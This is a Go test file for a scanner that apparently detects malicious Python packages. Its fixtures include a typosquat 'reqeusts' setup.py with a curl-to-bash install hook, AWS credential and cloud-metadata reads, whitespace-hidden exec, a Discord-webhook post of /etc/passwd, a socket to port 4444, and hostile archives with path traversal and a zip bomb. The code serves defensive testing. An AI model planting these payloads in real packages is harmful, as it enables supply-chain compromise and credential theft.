package scan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

// member is one entry of a test archive.
type member struct {
	name, body string
	link       string // symlink target
	typ        byte   // tar type; 0: regular
	size       int64  // for a regular member: pad the body with zeros to size
}

// writeSdist writes a real .tar.gz; members under root/ unless absolute
// in the test's intent (names are used as given).
func writeSdist(t *testing.T, name string, ms []member) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	zw := gzip.NewWriter(f)
	tw := tar.NewWriter(zw)
	for _, m := range ms {
		h := &tar.Header{Name: m.name, Mode: 0o644, Typeflag: tar.TypeReg, Size: int64(len(m.body))}
		switch {
		case m.link != "":
			h.Typeflag, h.Linkname, h.Size = tar.TypeSymlink, m.link, 0
		case m.typ != 0:
			h.Typeflag, h.Size = m.typ, 0
		case m.size > 0:
			h.Size = m.size
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			io.WriteString(tw, m.body)
			if m.size > int64(len(m.body)) {
				io.CopyN(tw, zeros{}, m.size-int64(len(m.body)))
			}
		}
	}
	tw.Close()
	zw.Close()
	f.Close()
	return p
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	clear(b)
	return len(b), nil
}

// writeWheel writes a real wheel with a correct RECORD, then applies
// tamper to the files after RECORD was computed.
func writeWheel(t *testing.T, name string, files map[string]string, tamper map[string]string) string {
	t.Helper()
	dist := strings.Join(strings.Split(strings.TrimSuffix(name, ".whl"), "-")[:2], "-") + ".dist-info"
	var rec strings.Builder
	for n, b := range files {
		sum := sha256.Sum256([]byte(b))
		fmt.Fprintf(&rec, "%s,sha256=%s,%d\n", n, base64.RawURLEncoding.EncodeToString(sum[:]), len(b))
	}
	fmt.Fprintf(&rec, "%s/RECORD,,\n", dist)
	p := filepath.Join(t.TempDir(), name)
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	all := map[string]string{dist + "/RECORD": rec.String()}
	for n, b := range files {
		all[n] = b
	}
	for n, b := range tamper {
		all[n] = b
	}
	for n, b := range all {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, b)
	}
	zw.Close()
	f.Close()
	return p
}

func scanOf(t *testing.T, tg Target) *Report {
	t.Helper()
	r, err := Run(t.Context(), Config{Target: tg})
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	return r
}

// find returns the finding of rule (whose summary starts with where, if
// given), failing the test if there is none.
func find(t *testing.T, r *Report, rule string, where ...string) moat.Finding {
	t.Helper()
	for _, f := range r.Findings {
		if f.Rule == rule && (len(where) == 0 || strings.HasPrefix(f.Summary, where[0])) {
			return f
		}
	}
	var got []string
	for _, f := range r.Findings {
		got = append(got, string(f.Severity)+" "+f.Rule+": "+f.Summary)
	}
	t.Fatalf("no %s finding; got:\n%s", rule, strings.Join(got, "\n"))
	return moat.Finding{}
}

const pkgInfo = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n\nlong description\n"

func TestMaliciousSdist(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("import os; os.system('id')"))
	blob := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("print('hidden stage two')\n"), 20))
	setup := strings.Join([]string{
		"import base64, os",
		"from setuptools import setup",
		"from setuptools.command.install import install",
		"class Evil(install):",
		"    def run(self):",
		"        exec(base64.b64decode('" + payload + "'))",
		"        os.system('curl -s http://203.0.113.9/x | bash')",
		"        open(os.path.expanduser('~/.aws/credentials')).read()",
		"        import urllib.request; urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')",
		"import sys" + strings.Repeat(" ", 300) + ";exec(__import__('zlib').decompress(b''))",
		"setup(name='reqeusts', version='1.0', cmdclass={'install': Evil})",
	}, "\n")
	init := strings.Join([]string{
		"import base64",
		"STAGE = '" + blob + "'",
		"code = base64.b64decode(STAGE)",
		"exec(code)",
		"URL = 'aHR0cHM6Ly9ob29rcy5zbGFjay5jb20vc2VydmljZXMvVDAwMC9CMDAwL1hYWA=='",
		"requests.post('https://discord.com/api/webhooks/1/abc', data=open('/etc/passwd').read())",
		"s.connect(('45.77.1.2', 4444))",
	}, "\n")
	p := writeSdist(t, "reqeusts-1.0.tar.gz", []member{
		{name: "reqeusts-1.0/PKG-INFO", body: fmt.Sprintf(pkgInfo, "reqeusts", "1.0")},
		{name: "reqeusts-1.0/setup.py", body: setup},
		{name: "reqeusts-1.0/reqeusts/__init__.py", body: init},
		{name: "reqeusts-1.0/reqeusts_hook.pth", body: "import os; os.system('id')\n"},
		{name: "reqeusts-1.0/urllib3/__init__.py", body: "# not urllib3\n"},
		{name: "reqeusts-1.0/sitecustomize.py", body: "print(1)\n"},
	})
	r := scanOf(t, Target{Kind: KindSdist, Path: p, Root: "reqeusts-1.0"})
	if r.Verdict != "high" || r.Name != "reqeusts" || r.Version != "1.0" {
		t.Fatalf("verdict %s name %q %q", r.Verdict, r.Name, r.Version)
	}
	for _, c := range []struct {
		rule  string
		sev   moat.Severity
		cat   moat.Category
		where string // file:line the summary starts with
		phase string
	}{
		{"decode-exec", moat.SeverityHigh, moat.CategoryExecution, "setup.py:6", "install"},
		{"pipe-shell", moat.SeverityHigh, moat.CategoryExecution, "setup.py:7", "install"},
		{"credential-path", moat.SeverityHigh, moat.CategoryCredentialAccess, "reqeusts/__init__.py:6", "import"},
		{"cloud-metadata", moat.SeverityHigh, moat.CategoryCredentialAccess, "setup.py:9", "install"},
		{"hidden-code", moat.SeverityHigh, moat.CategoryEvasion, "setup.py:10", "install"},
		{"install-cmdclass", moat.SeverityLow, moat.CategoryExecution, "setup.py:4", "install"},
		{"pth-code", moat.SeverityHigh, moat.CategoryPersistence, "reqeusts_hook.pth:1", "import"},
		{"startup-module", moat.SeverityHigh, moat.CategoryPersistence, "sitecustomize.py", "import"},
		{"typosquat", moat.SeverityMedium, moat.CategoryEvasion, "PKG-INFO", ""},
		{"shadows-module", moat.SeverityHigh, moat.CategoryEvasion, "urllib3/__init__.py", ""},
		{"exfil-host", moat.SeverityMedium, moat.CategoryExfiltration, "reqeusts/__init__.py:5", "import"},
		{"encoded-indicator", moat.SeverityMedium, moat.CategoryEvasion, "reqeusts/__init__.py:5", "import"},
		{"ip-address", moat.SeverityMedium, moat.CategoryNetwork, "reqeusts/__init__.py:7", "import"},
	} {
		t.Run(c.rule, func(t *testing.T) {
			f := find(t, r, c.rule, c.where)
			if f.Severity != c.sev || f.Category != c.cat || !strings.HasPrefix(f.Summary, c.where) || ActsIn(f) != c.phase {
				t.Fatalf("got %s %s %q (acts in %q); want %s %s at %s in %q", f.Severity, f.Category, f.Summary, ActsIn(f), c.sev, c.cat, c.where, c.phase)
			}
			if len(f.Evidence) == 0 || f.Evidence[0].Source != moat.SourceScan {
				t.Fatalf("evidence %+v", f.Evidence)
			}
		})
	}
	// The decoded variable executed in the package's module.
	found := false
	for _, f := range r.Findings {
		found = found || f.Rule == "decode-exec" && strings.HasPrefix(f.Summary, "reqeusts/__init__.py:4")
	}
	if !found {
		t.Fatal("exec of a decoded variable not found")
	}
}

func TestMetadataMismatch(t *testing.T) {
	p := writeSdist(t, "pkgx-3.0.tar.gz", []member{
		{name: "pkgx-1.0/PKG-INFO", body: fmt.Sprintf(pkgInfo, "pkgx", "1.0")},
		{name: "pkgx-1.0/setup.py", body: "from setuptools import setup\nsetup(name='otherpkg', version='1.0')\n"},
	})
	r := scanOf(t, Target{Kind: KindSdist, Path: p, Root: "pkgx-1.0"})
	f := find(t, r, "metadata-version")
	if f.Severity != moat.SeverityMedium || !strings.Contains(f.Summary, "Version: 1.0, file: pkgx-3.0.tar.gz") {
		t.Fatalf("%+v", f)
	}
	if f := find(t, r, "metadata-name"); !strings.Contains(f.Summary, "otherpkg") {
		t.Fatalf("%+v", f)
	}
	// No single top directory: scanned all the same, and said.
	p = writeSdist(t, "flat-1.0.tar.gz", []member{{name: "setup.py", body: "import os\nos.system('echo aGk= | base64 -d | sh')\n"}, {name: "PKG-INFO", body: fmt.Sprintf(pkgInfo, "flat", "1.0")}})
	r = scanOf(t, Target{Kind: KindSdist, Path: p})
	find(t, r, "metadata-layout")
	find(t, r, "pipe-shell")
}

func TestWheelRecordAndBinary(t *testing.T) {
	exe, err := os.Executable() // this test binary: a real ELF executable
	if err != nil {
		t.Fatal(err)
	}
	elfData, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"goodpkg/__init__.py":            "import subprocess, os\nHELPER = os.path.join(os.path.dirname(__file__), 'helper.bin')\n",
		"goodpkg/helper.bin":             string(elfData),
		"goodpkg-1.0.dist-info/METADATA": fmt.Sprintf(pkgInfo, "goodpkg", "1.0"),
	}
	p := writeWheel(t, "goodpkg-1.0-py3-none-any.whl", files, map[string]string{
		"goodpkg/extra.py":    "print('added later')\n",
		"goodpkg/__init__.py": files["goodpkg/__init__.py"] + "# changed\n",
	})
	r := scanOf(t, Target{Kind: KindWheel, Path: p})
	if len(r.Binaries) != 1 {
		t.Fatalf("binaries %+v", r.Binaries)
	}
	b := r.Binaries[0]
	sum := sha256.Sum256(elfData)
	if b.Path != "goodpkg/helper.bin" || b.Format != "elf" || b.Type != "executable" || b.Reach != "import" || b.SHA256 != fmt.Sprintf("%x", sum) || b.Size != int64(len(elfData)) {
		t.Fatalf("binary %+v", b)
	}
	if f := find(t, r, "native-binary"); f.Severity != moat.SeverityMedium || f.Evidence[0].Kind != moat.KindBinary || f.Evidence[0].SHA256 != b.SHA256 {
		t.Fatalf("%+v", f)
	}
	var added, changed bool
	for _, f := range r.Findings {
		added = added || f.Rule == "metadata-record" && strings.Contains(f.Summary, "goodpkg/extra.py") && f.Severity == moat.SeverityMedium
		changed = changed || f.Rule == "metadata-record" && strings.Contains(f.Summary, "goodpkg/__init__.py") && f.Severity == moat.SeverityHigh
	}
	if !added || !changed {
		t.Fatalf("RECORD checks: added %v changed %v: %+v", added, changed, r.Findings)
	}
	// The same wheel untouched: nothing about RECORD.
	p = writeWheel(t, "goodpkg-1.0-py3-none-any.whl", files, nil)
	for _, f := range scanOf(t, Target{Kind: KindWheel, Path: p}).Findings {
		if f.Rule == "metadata-record" {
			t.Fatalf("clean wheel: %+v", f)
		}
	}
}

func TestBinaryNamedByInstallCode(t *testing.T) {
	exe, _ := os.Executable()
	data, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	p := writeSdist(t, "binpkg-1.0.tar.gz", []member{
		{name: "binpkg-1.0/PKG-INFO", body: fmt.Sprintf(pkgInfo, "binpkg", "1.0")},
		{name: "binpkg-1.0/setup.py", body: "import subprocess\nsubprocess.call(['./tools/updater'])\nfrom setuptools import setup\nsetup(name='binpkg')\n"},
		{name: "binpkg-1.0/tools/updater", body: string(data)},
	})
	r := scanOf(t, Target{Kind: KindSdist, Path: p, Root: "binpkg-1.0"})
	f := find(t, r, "native-binary")
	if f.Severity != moat.SeverityHigh || ActsIn(f) != "import" || r.Binaries[0].Reach != "install" {
		t.Fatalf("%+v %+v", f, r.Binaries)
	}
}

// benign is a plain package as setuptools would pack it.
func benign(t *testing.T) string {
	return writeSdist(t, "tidy-2.1.0.tar.gz", []member{
		{name: "tidy-2.1.0/PKG-INFO", body: fmt.Sprintf(pkgInfo, "tidy", "2.1.0")},
		{name: "tidy-2.1.0/setup.py", body: "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'tidy', 'version.py')).read())\nsetup(name='tidy', version=__version__, url='https://github.com/example/tidy', packages=['tidy'])\n"},
		{name: "tidy-2.1.0/pyproject.toml", body: "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"tidy\"\nversion = \"2.1.0\"\n"},
		{name: "tidy-2.1.0/tidy/__init__.py", body: "\"\"\"Tidy text. See https://docs.python.org/3/ and http://bit.ly/abc for more.\"\"\"\nimport subprocess\nimport urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n"},
		{name: "tidy-2.1.0/tidy/version.py", body: "__version__ = '2.1.0'\n"},
		{name: "tidy-2.1.0/tidy/table.py", body: "TABLE = [\n    (1,                                                                                                              2),\n]\nNETRC = '~/.netrc'\n"},
		{name: "tidy-2.1.0/tests/test_tidy.py", body: "def test_x():\n    assert eval('1+1') == 2\n"},
	})
}

func TestBenignSdist(t *testing.T) {
	r := scanOf(t, Target{Kind: KindSdist, Path: benign(t), Root: "tidy-2.1.0"})
	for _, f := range r.Findings {
		if f.Severity.Rank() > moat.SeverityLow.Rank() {
			t.Errorf("benign package: %s %s %s", f.Severity, f.Rule, f.Summary)
		}
	}
	if r.Files != 7 || r.Name != "tidy" {
		t.Fatalf("files %d name %q", r.Files, r.Name)
	}
}

// TestBenignInstalled scans real benign packages on this machine (Debian's
// dist-packages: pip, setuptools, pytest, wheel, which CI installs):
// nothing above low.
func TestBenignInstalled(t *testing.T) {
	n := 0
	for _, d := range []string{"pip", "setuptools", "_pytest", "wheel", "pkg_resources"} {
		p := filepath.Join("/usr/lib/python3/dist-packages", d)
		if _, err := os.Stat(p); err != nil {
			continue
		}
		n++
		r := scanOf(t, Target{Kind: KindProject, Path: p})
		for _, f := range r.Findings {
			if f.Severity.Rank() > moat.SeverityLow.Rank() {
				t.Errorf("%s: %s %s %s", d, f.Severity, f.Rule, f.Summary)
			}
		}
	}
	if n == 0 {
		t.Skip("no Debian dist-packages here (python3-pip, python3-setuptools, python3-pytest)")
	}
}

// TestHostileArchives: the scan reads archives with moat test's rules and
// refuses what an extractor could be tricked by, writing nothing.
func TestHostileArchives(t *testing.T) {
	for _, c := range []struct {
		name string
		ms   []member
		want string
	}{
		{"traversal", []member{{name: "p-1.0/PKG-INFO", body: "x"}, {name: "p-1.0/../../etc/cron.d/x", body: "x"}}, "path traversal"},
		{"absolute", []member{{name: "/etc/passwd", body: "x"}}, "absolute path"},
		{"symlink out", []member{{name: "p-1.0/PKG-INFO", body: "x"}, {name: "p-1.0/l", link: "../../../etc"}}, "points outside"},
		{"through symlink", []member{{name: "p-1.0/d", link: "."}, {name: "p-1.0/d/x", body: "x"}}, "below the symlink"},
		{"device", []member{{name: "p-1.0/dev", typ: tar.TypeChar}}, "device"},
		{"huge member", []member{{name: "p-1.0/big", size: 40 << 20}}, "expands more than"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := writeSdist(t, "p-1.0.tar.gz", c.ms)
			_, err := Run(t.Context(), Config{Target: Target{Kind: KindSdist, Path: p, Root: "p-1.0"}})
			if !errors.Is(err, ErrTarget) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("err %v, want ErrTarget with %q", err, c.want)
			}
		})
	}
	t.Run("zip bomb", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "bomb-1.0-py3-none-any.whl")
		f, _ := os.Create(p)
		zw := zip.NewWriter(f)
		w, _ := zw.Create("bomb/data.bin")
		io.CopyN(w, zeros{}, 64<<20) // 64MiB of zeros: about 64KiB deflated
		zw.Close()
		f.Close()
		_, err := Run(t.Context(), Config{Target: Target{Kind: KindWheel, Path: p}})
		if !errors.Is(err, ErrTarget) || !strings.Contains(err.Error(), "expands more than") {
			t.Fatalf("err %v", err)
		}
	})
}

func TestProjectDirNoLinks(t *testing.T) {
	d := t.TempDir()
	os.WriteFile(filepath.Join(d, "setup.py"), []byte("from setuptools import setup\nsetup(name='proj')\n"), 0o644)
	secret := filepath.Join(t.TempDir(), "secret.py")
	os.WriteFile(secret, []byte("exec(base64.b64decode('aW1wb3J0IG9z'))\n"), 0o644)
	os.Symlink(secret, filepath.Join(d, "linked.py")) // never followed
	os.Symlink("/", filepath.Join(d, "root"))
	r := scanOf(t, Target{Kind: KindProject, Path: d})
	if r.Files != 1 {
		t.Fatalf("files %d", r.Files)
	}
	for _, f := range r.Findings {
		if f.Rule == "decode-exec" {
			t.Fatalf("followed a link: %+v", f)
		}
	}
}

func TestRequirements(t *testing.T) {
	p := filepath.Join(t.TempDir(), "requirements.txt")
	os.WriteFile(p, []byte("requests==2.31\nreqests>=1\n# comment\nfoo @ http://45.77.1.2/foo.tar.gz\n"), 0o644)
	r := scanOf(t, Target{Kind: KindRequirements, Path: p})
	if f := find(t, r, "typosquat"); !strings.HasPrefix(f.Summary, "requirements.txt:2") {
		t.Fatalf("%+v", f)
	}
	find(t, r, "ip-address")
}

func TestTyposquat(t *testing.T) {
	for name, want := range map[string]string{"jeIlyfish": "jellyfish", "certifo": "certifi", "reqeusts": "requests", "pymafka": "pykafka",
		"fabrice": "fabric", "requests": "", "tidy": "", "numpyy": "numpy", "urllib3": ""} {
		if got := typosquat(name); got != want {
			t.Errorf("typosquat(%q) = %q, want %q", name, got, want)
		}
	}
}

// TestConfirm: a scan finding and a run finding in the phase where the
// code runs are marked on both sides; a run in another phase, or of
// another host, is not.
func TestConfirm(t *testing.T) {
	sc := []moat.Finding{
		{Rule: "decode-exec", Severity: moat.SeverityHigh, Category: moat.CategoryExecution, Summary: "setup.py:6: decodes and executes code",
			Evidence: []moat.Event{{Source: moat.SourceScan, Phase: "install", Path: "setup.py", Line: 6}}},
		{Rule: "ip-address", Severity: moat.SeverityMedium, Category: moat.CategoryNetwork, Summary: "pkg/__init__.py:3: names a public IP",
			Evidence: []moat.Event{{Source: moat.SourceScan, Phase: "import", Path: "pkg/__init__.py", Line: 3, Detail: "45.77.1.2: s.connect(('45.77.1.2', 4444))"}}},
		{Rule: "typosquat", Severity: moat.SeverityMedium, Category: moat.CategoryEvasion, Summary: "PKG-INFO: typo", Evidence: []moat.Event{{Source: moat.SourceScan, Path: "PKG-INFO"}}},
	}
	run := []moat.Finding{
		{Phase: "install", Severity: moat.SeverityCritical, Category: moat.CategoryExfiltration, Summary: "fake secret put in a network request"},
		{Phase: "import", Severity: moat.SeverityMedium, Category: moat.CategoryNetwork, Summary: "attempted network connections to 198.51.100.7:80"},
		{Phase: "install", Severity: moat.SeverityLow, Category: moat.CategoryNetwork, Summary: "looked up names"},
	}
	Confirm(sc, run)
	if !strings.HasPrefix(sc[0].Confirmed, "install: critical exfiltration") || !strings.HasPrefix(run[0].Confirmed, "scan: setup.py:6") {
		t.Fatalf("not confirmed: %q / %q", sc[0].Confirmed, run[0].Confirmed)
	}
	if sc[1].Confirmed != "" || run[1].Confirmed != "" || run[2].Confirmed != "" || sc[2].Confirmed != "" {
		t.Fatalf("confirmed what did not agree: %+v %+v", sc, run)
	}
	run[1].Summary = "attempted network connections to 45.77.1.2:4444"
	Confirm(sc, run)
	if sc[1].Confirmed == "" || run[1].Confirmed == "" {
		t.Fatal("the very address was not confirmed")
	}
}

func BenchmarkScanSdist(b *testing.B) {
	t := &testing.T{}
	_ = t
	dir := b.TempDir()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for i := 0; i < 200; i++ {
		body := strings.Repeat(fmt.Sprintf("def f%d(x):\n    return x + %d  # http://example.com/%d\n", i, i, i), 40)
		tw.WriteHeader(&tar.Header{Name: fmt.Sprintf("bench-1.0/bench/m%d.py", i), Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		io.WriteString(tw, body)
	}
	tw.Close()
	zw.Close()
	p := filepath.Join(dir, "bench-1.0.tar.gz")
	os.WriteFile(p, buf.Bytes(), 0o644)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Run(b.Context(), Config{Target: Target{Kind: KindSdist, Path: p, Root: "bench-1.0"}}); err != nil {
			b.Fatal(err)
		}
	}
}

// FuzzTriage: any bytes in any of a package's files never panic the
// checks, and every finding names a file and has escaped, one-line text.
func FuzzTriage(f *testing.F) {
	f.Add("setup.py", "exec(base64.b64decode('aW1wb3J0IG9z'))\nimport x"+strings.Repeat(" ", 120)+";exec(1)\n")
	f.Add("pkg/__init__.py", "U = 'aHR0cHM6Ly9ob29rcy5zbGFjay5jb20v'\ns.connect(('45.77.1.2', 1))\n")
	f.Add("pyproject.toml", "[build-system]\nbuild-backend = 'x'\nbackend-path = ['.']\n[tool.hatch.build.hooks.custom]\n")
	f.Add("x.pth", "import os\x1b[31m\n")
	f.Add("PKG-INFO", "Name: reqeusts\nVersion: 1\n\n")
	f.Add("a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00")
	f.Fuzz(func(t *testing.T, name, body string) {
		if name == "" {
			name = "setup.py"
		}
		p := &pkg{kind: KindSdist, file: "f-1.0.tar.gz", root: "f-1.0", byName: map[string]*file{}}
		p.add(name, 0, strings.NewReader(body))
		p.add("setup.py", 0, strings.NewReader(body))
		p.readMeta()
		for _, fd := range triage(p).out {
			if strings.ContainsAny(fd.Summary, "\n\r\x1b") || fd.Severity.Rank() == 0 || fd.Rule == "" {
				t.Fatalf("finding %+v", fd)
			}
		}
	})
}
